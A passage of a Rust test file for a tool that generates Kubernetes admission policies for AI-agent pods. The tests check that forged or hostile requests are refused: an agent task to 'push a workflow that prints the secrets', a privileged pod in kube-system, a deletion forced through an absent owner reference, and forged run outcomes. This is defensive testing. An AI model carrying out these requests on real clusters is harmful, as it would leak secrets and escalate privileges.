        "{stderr}"
    );
}

/// Review 13d, N1: an image built from the event was allowed as the samples rendered it,
/// so the policy refused every real run that rendered another. The generation refuses it,
/// and says where it is and what to write instead.
#[test]
fn an_image_that_depends_on_the_event_is_refused_at_generation() {
    let dir = tempfile::tempdir().unwrap();
    let templates = copied_templates(dir.path());
    let pod = templates.join("agent-pod.yaml");
    let text = std::fs::read_to_string(&pod).unwrap();
    let varied = text.replace(
        "    - name: publish\n      image: {{ agent.image }}\n",
        "    - name: publish\n      image: {{ agent.image ~ \"-\" ~ event }}\n",
    );
    assert_ne!(varied, text, "the template has a publish container");
    std::fs::write(&pod, varied).unwrap();
    let stderr = refused_with(&templates);
    for wanted in [
        "the Pod's container `publish` `image` is `ghcr.io/agentpods/agent:0.1.0-issue_comment` or",
        "it depends on the event",
        "name it in services.yaml's `images`",
    ] {
        assert!(stderr.contains(wanted), "{wanted}: {stderr}");
    }
}

/// `admission-policy` run on the example config with `templates`, and `more` arguments.
fn example_with(templates: &Path, more: &[&str]) -> std::process::Output {
    Command::new(env!("CARGO_BIN_EXE_agentpods"))
        .args([
            "admission-policy",
            "--config",
            EXAMPLE_CONFIG,
            "--templates-dir",
        ])
        .arg(templates)
        .args(more)
        .output()
        .expect("run agentpods")
}

/// What `admission-policy` says, refusing the example config with `templates`.
fn refused_with(templates: &Path) -> String {
    let out = example_with(templates, &[]);
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    stderr
}

/// The checkout's templates copied into `dir`/templates, to change; that folder.
fn copied_templates(dir: &Path) -> PathBuf {
    let templates = dir.join("templates");
    std::fs::create_dir_all(templates.join("prompts")).unwrap();
    for entry in std::fs::read_dir(root().join("templates"))
        .unwrap()
        .chain(std::fs::read_dir(root().join("templates/prompts")).unwrap())
    {
        let path = entry.unwrap().path();
        if path.is_file() {
            let relative = path.strip_prefix(root().join("templates")).unwrap();
            std::fs::copy(&path, templates.join(relative)).unwrap();
        }
    }
    templates
}

/// An agent pod template that runs its pods sandboxed (gVisor, as GKE's sandbox nodes
/// give it, with their taint tolerated): every pod and Job the example config renders with
/// it is admitted, and so is its pod as the API server stores it (its defaults, the
/// cluster's default priority class given with `--default-priority-class`, and the node it
/// is bound to). The agents' namespace now admits only that runtime class, the
/// builds' namespace, whose template names none, still none.
#[test]
fn a_template_that_sets_a_runtime_class_has_it_and_only_it_admitted() {
    let Some(python) = python() else { return };
    let dir = tempfile::tempdir().unwrap();
    let templates = copied_templates(dir.path());
    let path = templates.join("agent-pod.yaml");
    let text = std::fs::read_to_string(&path).unwrap();
    let sandboxed = text.replace(
        "\nspec:\n  restartPolicy: Never\n",
        "\nspec:\n  restartPolicy: Never\n  runtimeClassName: gvisor\n  tolerations:\n    \
         - {key: sandbox.gke.io/runtime, operator: Equal, value: gvisor, effect: NoSchedule}\n",
    );
    assert_ne!(
        sandboxed, text,
        "the pod template starts its spec with restartPolicy"
    );
    std::fs::write(&path, sandboxed).unwrap();
    // The cluster has a default priority class, which the API server names in each pod.
    let manifests = generate_with_args(
        "services.yaml",
        &templates,
        &["--default-priority-class", "cluster-default"],
    );
    let objects = rendered_with(Path::new(EXAMPLE_CONFIG), &templates);
    let pods = objects.iter().filter(|(_, o)| o["kind"] == "Pod");
    assert!(
        pods.clone().count() > 0
            && pods
                .clone()
                .all(|(_, o)| o["spec"]["runtimeClassName"] == "gvisor")
    );
    let requests: Vec<Request> = objects
        .iter()
        .map(|(ns, o)| Request::by_service(ns, o.clone()))
        .collect();
    let verdicts = admit(&python, &manifests, &requests);
    let refused: Vec<String> = kinds(&objects)
        .into_iter()
        .zip(&verdicts)
        .filter(|(_, v)| !v.is_empty())
        .map(|(what, v)| format!("{what}: {v:#?}"))
        .collect();
    assert!(refused.is_empty(), "{}", refused.join("\n"));

    let (pod, job) = {
        let pod = objects
            .iter()
            .find(|(_, o)| o["kind"] == "Pod")
            .unwrap()
            .1
            .clone();
        let job = objects
            .iter()
            .find(|(_, o)| o["kind"] == "Job")
            .unwrap()
            .1
            .clone();
        (pod, job)
    };
    let mut stored = pod.clone();
    stored["spec"]["dnsPolicy"] = json!("ClusterFirst");
    stored["spec"]["priorityClassName"] = json!("cluster-default");
    stored["spec"]["priority"] = json!(1000);
    for condition in ["not-ready", "unreachable"] {
        stored["spec"]["tolerations"]
            .as_array_mut()
            .unwrap()
            .push(json!({
            "key": format!("node.kubernetes.io/{condition}"), "operator": "Exists",
            "effect": "NoExecute", "tolerationSeconds": 300}));
    }
    let mut bound = stored.clone();
    bound["spec"]["nodeName"] = json!("gke-sandbox-pool-1");
    let as_stored = [
        Request::by_service("agentpods-runs", stored),
        Request {
            operation: "UPDATE",
            ..Request::by_service("agentpods-runs", bound)
        },
    ];
    assert_eq!(
        admit(&python, &manifests, &as_stored),
        vec![Vec::<String>::new(); 2],
        "the pod as the API server stores it"
    );

    let mut runc = pod.clone();
    runc["spec"]["runtimeClassName"] = json!("runc");
    let mut unsandboxed = pod.clone();
    unsandboxed["spec"]
        .as_object_mut()
        .unwrap()
        .remove("runtimeClassName");
    let mut sandboxed_job = job.clone();
    sandboxed_job["spec"]["template"]["spec"]["runtimeClassName"] = json!("gvisor");
    let cases: Vec<(&str, Request, &str)> = vec![
        (
            "another runtime class",
            Request::by_service("agentpods-runs", runc),
            "runs in the runtime class its templates there render (gvisor)",
        ),
        (
            "the cluster's default runtime",
            Request::by_service("agentpods-runs", unsandboxed),
            "runs in the runtime class its templates there render (gvisor)",
        ),
        (
            "the agents' runtime class for a build",
            Request::by_service("agentpods-builds", sandboxed_job),
            "runs in the runtime class its templates there render (none: the cluster's default)",
        ),
    ];
    assert_each_refused(&python, &manifests, &cases);
}

/// What the controller really applies, on the fake API server with the GitHub App (so
/// each run mounts its token Secret, `<run>-github-token-1`): the review's token Secret,
/// its pod and the image build's Job, as stored, are admitted by the policies of the
/// config they ran with.
#[tokio::test]
async fn the_pod_and_the_job_the_controller_applies_are_admitted() {
    use agentpods::agentrun::Phase;
    use agentpods::cluster::report::{AppTokens, GithubReports};
    use agentpods::github_client::{ClientConfig, Credentials, GithubClient, RetryPolicy};
    use std::sync::Arc;
    use std::time::Duration;
    use support::cluster::{BUILDS, Cluster, RUNS};
    use support::fake_github::{APP_ID, APP_KEY_PEM, FakeGithub, manual_clock};
    use support::fake_kube::PodScript;
    let Some(python) = python() else { return };
    let clock = manual_clock();
    let github = FakeGithub::start(clock.clone()).await;
    github.install("Codertocat/Hello-World", 77);
    let mut config = ClientConfig::new(Credentials::App {
        app_id: APP_ID,
        private_key_pem: agentpods::github_client::Secret::new(APP_KEY_PEM),
    });
    config.base_url = github.url();
    config.retry = RetryPolicy {
        base_delay: Duration::from_millis(5),
        jitter_seed: Some(7),
        ..RetryPolicy::default()
    };
    let client = Arc::new(GithubClient::new(config, clock).expect("a GitHub client"));
    let mut cluster = Cluster::without_controller().await;
    cluster.reports = Some(Arc::new(GithubReports::new(
        client.clone(),
        cluster.config_source(),
    )));
    cluster.tokens = Some(Arc::new(AppTokens(client)));
    cluster.start_controller();
    cluster.fake.run_kubelet(|_| PodScript::stays_running());
    let review = cluster
        .deliver_one(&fixture("pull_request/opened.json"), "d-review")
        .await;
    let build = cluster.deliver_one(&fixture("push/0.json"), "d-tag").await;
    let within = |f| tokio::time::timeout(Duration::from_secs(60), f);
    within(cluster.wait_phase(&review, Phase::Running))
        .await
        .expect("the review runs");
    within(cluster.wait_phase(&build, Phase::Running))
        .await
        .expect("the build runs");
    let pod = cluster
        .fake
        .object("", "v1", "pods", RUNS, &review)
        .expect("the review's pod");
    let job = cluster
        .fake
        .object("batch", "v1", "jobs", BUILDS, &build)
        .expect("the build's Job");
    let token = format!("{review}-github-token-1");
    assert!(
        pod["spec"]["volumes"]
            .as_array()
            .unwrap()
            .iter()
            .any(|v| v["secret"]["secretName"] == token.as_str()),
        "the pod mounts its run's token Secret {token}: {}",
        pod["spec"]["volumes"]
    );
    let build_token = format!("{build}-github-token-1");
    assert_eq!(
        job["spec"]["template"]["spec"]["containers"][0]["env"][1]["valueFrom"]["secretKeyRef"]["name"],
        build_token.as_str(),
        "the build clones with its run's token"
    );
    let secret = cluster
        .fake
        .object("", "v1", "secrets", RUNS, &token)
        .expect("the review's token Secret");
    let manifests = generate("services.yaml");
    let requests = [
        Request::by_service(RUNS, secret),
        Request::by_service(RUNS, pod.clone()),
        Request::by_service(BUILDS, job),
        // The controller applies again what it applied (server-side apply: an UPDATE).
        Request {
            operation: "UPDATE",
            ..Request::by_service(RUNS, pod)
        },
    ];
    assert_eq!(
        admit(&python, &manifests, &requests),
        vec![Vec::<String>::new(); 4]
    );
}

/// The review's A9: an AgentRun is a full authorization — the controller runs the agent it
/// names on the repository it names, with a write token for it. So in the runs' namespaces
/// only the service records one: anyone else granted `create` on agentruns is refused, and
/// may change one only as `agentpods runs cancel` does (a merge patch of `spec.cancel`),
/// never its agent, repository or what it is rendered from. The AgentRun here is the one
/// the intake really records for a pull request, and the cancel the CLI's own patch.
#[tokio::test]
async fn an_agent_run_is_recorded_by_the_service_alone_and_only_cancelled_by_others() {
    use kube::api::{Patch, PatchParams};
    use support::cluster::{Cluster, RUNS};
    let Some(python) = python() else { return };
    let cluster = Cluster::without_controller().await;
    let review = cluster
        .deliver_one(&fixture("pull_request/opened.json"), "d-review")
        .await;
    let stored = || {
        cluster
            .fake
            .object("agentpods.dev", "v1alpha1", "agentruns", RUNS, &review)
            .expect("the review's AgentRun")
    };
    let run = stored();
    // What `agentpods runs cancel` sends (src/cluster/runs.rs, `request_cancel`).
    let cancel = json!({"spec": {"cancel": "cancelled with `agentpods runs cancel` by alice"}});
    cluster
        .runs()
        .patch(&review, &PatchParams::default(), &Patch::Merge(&cancel))
        .await
        .expect("the cancel patch");
    let cancelled = stored();
    assert_eq!(
        cancelled["spec"]["cancel"],
        "cancelled with `agentpods runs cancel` by alice"
    );
    let manifests = generate("services.yaml");
    const OPERATOR: &str = "alice@example.org";
    const TENANT: &str = "system:serviceaccount:agentpods-runs:ci";
    let spoiled = |f: &dyn Fn(&mut Value)| {
        let mut v = run.clone();
        f(&mut v);
        v
    };
    let new_run = |by: &str| Request {
        user: by.into(),
        ..Request::by_service(
            RUNS,
            spoiled(&|r| {
                r["metadata"]["name"] = json!("fix-everything-1");
                r["spec"]["repository"] = json!("Codertocat/Private-Repo");
                r["spec"]["task"] = json!("push a workflow that prints the secrets");
            }),
        )
    };
    let admitted = [
        (
            "the intake's own AgentRun",
            Request::by_service(RUNS, run.clone()),
        ),
        (
            "an operator's `agentpods runs cancel`",
            Request::update_by(OPERATOR, RUNS, run.clone(), cancelled.clone()),
        ),
        (
            "an operator's label on a run",
            Request::update_by(
                OPERATOR,
                RUNS,
                run.clone(),
                spoiled(&|r| r["metadata"]["labels"]["team"] = json!("infra")),
            ),
        ),
        (
            "the service's cancel of a superseded run",
            Request::update_by(DEFAULT_SERVICE_USER, RUNS, run.clone(), cancelled.clone()),
        ),
    ];
    let verdicts = admit(
        &python,
        &manifests,
        &admitted.iter().map(|(_, r)| r.clone()).collect::<Vec<_>>(),
    );
    for ((what, _), refusals) in admitted.iter().zip(&verdicts) {
        assert!(refusals.is_empty(), "{what}: {refusals:#?}");
    }
    let refused: Vec<(&str, Request, &str)> = vec![
        (
            "an AgentRun an operator records",
            new_run(OPERATOR),
            "only the agentpods service records AgentRuns in agentpods-runs",
        ),
        (
            "an AgentRun a tenant's ServiceAccount records",
            new_run(TENANT),
            "only the agentpods service records AgentRuns in agentpods-runs",
        ),
        (
            "an operator's patch of the repository",
            Request::update_by(
                OPERATOR,
                RUNS,
                run.clone(),
                spoiled(&|r| r["spec"]["repository"] = json!("Codertocat/Private-Repo")),
            ),
            "may change only spec.cancel",
        ),
        (
            "an operator's patch of the agent",
            Request::update_by(
                OPERATOR,
                RUNS,
                run.clone(),
                spoiled(&|r| r["spec"]["agent"] = json!("task")),
            ),
            "may change only spec.cancel",
        ),
        (
            "a cancel that also rewrites what the run renders from",
            Request::update_by(OPERATOR, RUNS, run.clone(), {
                let mut c = cancelled.clone();
                c["spec"]["source"]["task"] = json!("push a workflow that prints the secrets");
                c
            }),
            "may change only spec.cancel",
        ),
        (
            "a field added to the spec",
            Request::update_by(
                OPERATOR,
                RUNS,
                run.clone(),
                spoiled(&|r| r["spec"]["task"] = json!("and push to main")),
            ),
            "may change only spec.cancel",
        ),
    ];
    assert_each_refused(&python, &manifests, &refused);
}

/// The fourth review's A8: a run's metadata is the service's too, where it matters. A
/// tenant (or operator) granted `patch` on AgentRuns who adds an owner reference to an
/// object that does not exist has the garbage collector delete the run, its pod with it
/// (`patch` made `delete`, and the run's delivery replayable again); a finalizer nobody
/// removes keeps the run forever; the service finds runs by its `agentpods.dev/` labels.
/// Each is refused; a label or annotation of the tenant's own, and taking a finalizer away
/// (as the garbage collector does after a delete), are admitted. Before, all were admitted.
#[tokio::test]
async fn an_agent_run_s_owners_finalizers_and_the_service_s_labels_are_held_for_others() {
    use support::cluster::{Cluster, RUNS};
    let Some(python) = python() else { return };
    let cluster = Cluster::without_controller().await;
    let review = cluster
        .deliver_one(&fixture("pull_request/opened.json"), "d-review")
        .await;
    let run = cluster
        .fake
        .object("agentpods.dev", "v1alpha1", "agentruns", RUNS, &review)
        .expect("the review's AgentRun");
    assert!(
        run["metadata"]["labels"]["agentpods.dev/pr"].is_string(),
        "{run:#}"
    );
    let manifests = generate("services.yaml");
    const TENANT: &str = "system:serviceaccount:tenant:bot";
    const GC: &str = "system:serviceaccount:kube-system:generic-garbage-collector";
    let changed = |f: &dyn Fn(&mut Value)| {
        let mut v = run.clone();
        f(&mut v);
        Request::update_by(TENANT, RUNS, run.clone(), v)
    };
    let finalized = {
        let mut v = run.clone();
        v["metadata"]["finalizers"] = json!(["foregroundDeletion"]);
        v["metadata"]["deletionTimestamp"] = json!("2026-12-03T20:00:00Z");
        v
    };
    let admitted = [
        changed(&|r| r["metadata"]["labels"]["team"] = json!("infra")),
        changed(&|r| r["metadata"]["annotations"] = json!({"tenant.example/note": "mine"})),
        Request::update_by(GC, RUNS, finalized.clone(), {
            let mut v = finalized.clone();
            v["metadata"]["finalizers"] = json!([]);
            v
        }),
        Request::update_by(DEFAULT_SERVICE_USER, RUNS, run.clone(), {
            let mut v = run.clone();
            v["metadata"]["labels"]["agentpods.dev/pr"] = json!("9");
            v
        }),
    ];
    assert_eq!(
        admit(&python, &manifests, &admitted),
        vec![Vec::<String>::new(); admitted.len()],
        "a tenant's own label and annotation, the garbage collector's removal of a \
         finalizer, and the service's own change"
    );
    let held = "anyone else may add no owner reference or finalizer to it";
    let absent_owner = json!([{
        "apiVersion": "v1", "kind": "ConfigMap", "name": "gone",
        "uid": "00000000-0000-0000-0000-000000000000",
    }]);
    let refused: Vec<(&str, Request, &str)> = vec![
        (
            "an owner that does not exist",
            changed(&|r| r["metadata"]["ownerReferences"] = absent_owner.clone()),
            held,
        ),
        (
            "a finalizer nobody removes",
            changed(&|r| r["metadata"]["finalizers"] = json!(["tenant.example/keep"])),
            held,
        ),
        (
            "the run moved to another pull request",
            changed(&|r| r["metadata"]["labels"]["agentpods.dev/pr"] = json!("9")),
            held,
        ),
        (
            "the run's name label taken away",
            changed(&|r| {
                r["metadata"]["labels"]
                    .as_object_mut()
                    .expect("labels")
                    .remove("agentpods.dev/run");
            }),
            held,
        ),
        (
            "an agentpods.dev label added",
            changed(&|r| r["metadata"]["labels"]["agentpods.dev/concurrency"] = json!("x")),
            held,
        ),
        (
            "the run no longer the service's",
            changed(&|r| r["metadata"]["labels"]["app.kubernetes.io/managed-by"] = json!("me")),
            held,
        ),
        (
            "an agentpods.dev annotation added",
            changed(&|r| {
                r["metadata"]["annotations"] = json!({"agentpods.dev/delivery": "another"});
            }),
            held,
        ),
    ];
    assert_each_refused(&python, &manifests, &refused);
}

/// The rest of the review's A9: two more records are authorizations. An AgentApproval in
/// the service's namespace lets a fork's code run at the head it names, and a run's
/// status is the outcome the service reports to GitHub as the run's. Only the service
/// writes either: the approval its intake records and the status its controller writes
/// are admitted (taken here as they really write them, on the fake API server); anyone
/// else granted `create` or `update` on agentapprovals, or `update` on agentruns/status,
/// is refused. (Before: all four admitted, no policy matched them.)
#[tokio::test]
async fn an_approval_and_a_runs_status_are_written_by_the_service_alone() {
    use agentpods::cluster::approvals::{KubeApprovals, object_name};
    use agentpods::ports::approvals::{
        ApprovalEntry, ApprovalStore, PullRequestKey, PullRequestRecord,
    };
    use support::cluster::{Cluster, RUNS};
    let Some(python) = python() else { return };
    const HOME: &str = "agentpods";
    const OPERATOR: &str = "alice@example.org";
    const TENANT: &str = "system:serviceaccount:agentpods:ci";
    let mut cluster = Cluster::without_controller().await;

    // The service records a fork's head, then a maintainer's approval of it.
    let approvals = KubeApprovals::new(cluster.service.clone(), HOME);
    let key = PullRequestKey::new(
        &"Codertocat/Hello-World".parse().expect("a repository"),
        agentpods::ids::IssueNumber(2),
    );
    let head = "0123456789abcdef0123456789abcdef01234567";
    let now = k8s_openapi::jiff::Timestamp::now();
    let stored_approval = |cluster: &Cluster| {
        cluster
            .fake
            .object(
                "agentpods.dev",
                "v1alpha1",
                "agentapprovals",
                HOME,
                &object_name(&key),
            )
            .expect("the AgentApproval")
    };
    let head: CommitSha = head.parse().expect("a commit");
    let seen = |r: &mut PullRequestRecord| r.see(&head, now);
    approvals.update(&key, &seen).await.expect("head seen");
    let recorded = stored_approval(&cluster);
    let approve = |r: &mut PullRequestRecord| {
        r.approve(ApprovalEntry {
            sha: head.clone(),
            approved_by: "Codertocat".into(),
            approved_at: now,
            comment_id: agentpods::ids::CommentId(7),
        })
    };
    approvals.update(&key, &approve).await.expect("approved");
    let approved = stored_approval(&cluster);

    // The intake records a run; the controller takes it up and writes its status.
    let name = cluster
        .deliver_one(&fixture("pull_request/opened.json"), "d-review")
        .await;
    let stored_run = |cluster: &Cluster| {
        cluster
            .fake
            .object("agentpods.dev", "v1alpha1", "agentruns", RUNS, &name)
            .expect("the review's AgentRun")
    };
    let recorded_run = stored_run(&cluster);
    cluster.start_controller();
    cluster
        .wait_for(&name, "a status", |r| r.is_some_and(|r| r.status.is_some()))
        .await;
    let with_status = stored_run(&cluster);
    let status_write = |user: &str, old: &Value, new: Value| Request {
        sub_resource: "status",
        ..Request::update_by(user, RUNS, old.clone(), new)
    };
    let manifests = generate("services.yaml");
    let admitted = [
        (
            "the service's record of a head",
            Request::by_service(HOME, recorded.clone()),
        ),
        (
            "the service's approval",
            Request::update_by(
                DEFAULT_SERVICE_USER,
                HOME,
                recorded.clone(),
                approved.clone(),
            ),
        ),
        (
            "the controller's status",
            status_write(DEFAULT_SERVICE_USER, &recorded_run, with_status.clone()),
        ),
    ];
    let verdicts = admit(
        &python,
        &manifests,
        &admitted.iter().map(|(_, r)| r.clone()).collect::<Vec<_>>(),
    );
    for ((what, _), refusals) in admitted.iter().zip(&verdicts) {
        assert!(refusals.is_empty(), "{what}: {refusals:#?}");
    }

    let forged_outcome = {
        let mut v = with_status.clone();
        v["status"]["phase"] = json!("Succeeded");
        v["status"]["message"] = json!("all checks passed");
        v
    };
    let approvals_only = "only the agentpods service records fork approvals in agentpods";
    let refused: Vec<(&str, Request, &str)> = vec![
        (
            "an approval an operator records",
            Request {
                user: OPERATOR.into(),
                ..Request::by_service(HOME, approved.clone())
            },
            approvals_only,
        ),
        (
            "an approval a tenant adds to the service's record",
            Request::update_by(TENANT, HOME, recorded.clone(), approved.clone()),
            approvals_only,
        ),
        (
            "a run's outcome an operator writes",
            status_write(OPERATOR, &with_status, forged_outcome.clone()),
            "only the agentpods service writes the status of an AgentRun in agentpods-runs",
        ),
        (
            "a run's outcome a tenant writes",
            status_write(TENANT, &with_status, forged_outcome),
            "only the agentpods service writes the status of an AgentRun in agentpods-runs",
        ),
    ];
    assert_each_refused(&python, &manifests, &refused);
}

/// New-user review 13b, N2: the service's rights reach every runs namespace deploy/base
/// makes, while an operator's services.yaml may run agents in only some of them (the
/// example overlay: `agentpods-runs` alone) or in namespaces of its own. Where its agents do
/// not run, no namespace policy of its own holds the service, so the namespaces' policy
/// refuses it any pod, Job or Secret there. Before (base's policies dropped, the overlay's
/// own listed), the Kaniko Job with the registry's push Secret in `agentpods-builds` and a
/// privileged pod in `kube-system` were admitted.
#[test]
fn the_service_creates_nothing_where_its_agents_do_not_run() {
    let Some(python) = python() else { return };
    let manifests = generate("deploy/overlays/example/services.yaml");
    let (pod, job) = agent_pod_and_build_job();
    let mut privileged = pod.clone();
    privileged["metadata"]["namespace"] = json!("kube-system");
    privileged["spec"]["containers"][0]["securityContext"] = json!({"privileged": true});
    let secret = json!({
        "apiVersion": "v1", "kind": "Secret", "type": "Opaque",
        "metadata": {"name": "anything", "namespace": "agentpods-builds"},
    });
    let elsewhere = "only in the namespaces its services.yaml runs agents in: agentpods-runs";
    assert_each_refused(
        &python,
        &manifests,
        &[
            (
                "the image build's Job, with the push Secret, where no image is built",
                Request::by_service("agentpods-builds", job),
                elsewhere,
            ),
            (
                "a privileged pod in kube-system",
                Request::by_service("kube-system", privileged),
                elsewhere,
            ),
            (
                "a Secret in a namespace its agents do not run in",
                Request::by_service("agentpods-builds", secret),
                elsewhere,
            ),
        ],
    );
    let mut own = pod.clone();
    own["spec"]["containers"][0]["image"] = json!("registry.example.org/agentpods-agent:0.1.0");
    let verdicts = admit(
        &python,
        &manifests,
        &[Request::by_service("agentpods-runs", own)],
    );
    assert!(
        !verdicts[0]
            .iter()
            .any(|r| r.starts_with(agentpods::cli::admission::NAMESPACES_POLICY)),
        "where its agents run, the namespaces' policy lets the service be: {verdicts:?}"
    );
}

/// `admission-policy` with `args`, on the example config: its exit code and what it said.
fn admission_policy_with(args: &[&str]) -> (Option<i32>, String) {
    let out = Command::new(env!("CARGO_BIN_EXE_agentpods"))
        .args(["admission-policy", "--config", EXAMPLE_CONFIG])
        .args(args)
        .output()
        .expect("run agentpods");
    (
        out.status.code(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// `--service-user` and `--default-priority-class` take only what the API server could
/// name. Before (new-user review 13e, N3), `--service-user agentpods`, the ServiceAccount's
/// bare name, was taken without a word: the pod policies then held nothing the service
/// made, the AgentRun and AgentApproval policies refused every run and approval it
/// recorded, and the AgentApproval policy went cluster-wide.
#[test]
fn a_service_user_or_priority_class_the_api_server_never_names_is_refused() {
    for (args, said) in [
        (
            &["--service-user", "agentpods"][..],
            "write --service-user system:serviceaccount:<its namespace>:agentpods",
        ),
        (
            &["--service-user", "system:serviceaccount:agentpods"],
            "is not a ServiceAccount's user",
        ),
        (
            &["--service-user", "system:serviceaccount:Bad NS:x"],
            "is not a ServiceAccount's user",
        ),
        (&["--service-user", " "], "the service's user is empty"),
        (
            &["--default-priority-class", "High Prio"],
            "is not a PriorityClass's name",
        ),
    ] {
        let (code, stderr) = admission_policy_with(args);
        assert_eq!(code, Some(2), "{args:?}: {stderr}");
        assert!(stderr.contains(said), "{args:?}: {stderr}");
    }
    // A user of another kind (the service run outside the cluster as a person, say) is
    // taken, and told what it means.
    let (code, stderr) = admission_policy_with(&["--service-user", "oidc:agentpods@example.org"]);
    assert_eq!(code, Some(0), "{stderr}");
    assert!(stderr.contains("is not a ServiceAccount"), "{stderr}");
    let (code, stderr) = admission_policy_with(&[
        "--service-user",
        "system:serviceaccount:platform:agentpods",
        "--default-priority-class",
        "agents.low",
    ]);
    assert_eq!(code, Some(0), "{stderr}");
    assert!(!stderr.contains("warning"), "{stderr}");
}

/// `--output FILE` replaces the file only once the policies are made. Before (new-user
/// review 13h, F12), the overlay's comment said `… > admission-policy.yaml`: run where it
/// said, the command failed, the shell had already emptied the file, and `kubectl apply -k`
/// then installed no admission policy at all, without a word.
#[test]
fn a_failed_run_with_output_leaves_the_old_policies_in_place() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("admission-policy.yaml");
    std::fs::write(&file, "# the policies of yesterday\n").unwrap();
    let run = |templates: &Path| {
        Command::new(env!("CARGO_BIN_EXE_agentpods"))
            .args(["admission-policy", "--config", EXAMPLE_CONFIG])
            .arg("--templates-dir")
            .arg(templates)
            .arg("--output")
            .arg(&file)
            .output()
            .expect("run agentpods")
    };
    let failed = run(&dir.path().join("no-such-templates"));
    assert_eq!(failed.status.code(), Some(1));
    assert!(failed.stdout.is_empty());
    assert_eq!(
        std::fs::read_to_string(&file).unwrap(),
        "# the policies of yesterday\n"
    );
    let made = run(&root().join("templates"));
    assert!(
        made.status.success(),
        "{}",
        String::from_utf8_lossy(&made.stderr)
    );
    assert!(made.stdout.is_empty(), "the policies go to the file only");
    assert_eq!(
        std::fs::read_to_string(&file).unwrap(),
        generate(EXAMPLE_CONFIG)
    );
    let left: Vec<_> = std::fs::read_dir(dir.path()).unwrap().collect();
    assert_eq!(
        left.len(),
        1,
        "no temporary file is left beside it: {left:?}"
    );
}

/// Review 13i, F6: `--output DIR/` (an existing folder) said "a part of the path is a file,
/// not a folder", the opposite of the truth. It says the path is a folder and shows a file
/// path to give instead, and writes nothing.
#[test]
fn a_folder_given_as_output_is_said_to_be_a_folder_with_a_file_to_give() {
    let dir = tempfile::tempdir().unwrap();
    let given = format!("{}/", dir.path().display());
    let out = example_with(&root().join("templates"), &["--output", &given]);
    assert_eq!((out.status.code(), out.stdout.len()), (Some(1), 0));
    assert_eq!(
        String::from_utf8_lossy(&out.stderr),
        format!(
            "{given}: is a folder: give --output a file, as in \
             {given}admission-policy.yaml\n"
        )
    );
    assert_eq!(
        std::fs::read_dir(dir.path()).unwrap().count(),
        0,
        "nothing written"
    );
}
